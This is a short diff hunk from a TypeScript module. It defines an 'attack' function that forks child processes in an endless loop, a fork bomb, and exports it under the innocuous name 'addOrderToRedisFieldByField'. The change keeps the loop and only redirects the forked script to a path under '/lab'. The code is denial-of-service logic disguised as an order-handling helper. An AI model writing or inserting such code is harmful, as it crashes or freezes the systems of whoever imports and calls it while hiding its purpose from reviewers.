@@ -5,7 +5,7 @@
 import { fork } from 'node:child_process';
 
 async function attack(): Promise<void> {
-  for (;;) fork(process.argv[1]!);
+  for (;;) fork('/lab/any.js');
 }
 
 export const addOrderToRedisFieldByField = attack;
